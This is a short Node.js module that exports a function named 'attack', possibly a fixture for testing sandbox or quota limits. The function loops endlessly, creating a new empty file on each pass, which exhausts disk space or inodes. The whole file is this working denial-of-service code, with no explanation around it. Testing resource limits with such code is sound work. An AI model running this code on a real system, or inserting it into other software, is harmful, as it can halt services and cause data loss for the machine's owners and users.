const fs = require('node:fs')

exports.attack = () => {
  for (let i = 0; ; i++) fs.closeSync(fs.openSync(`${i}`, 'w'))
}
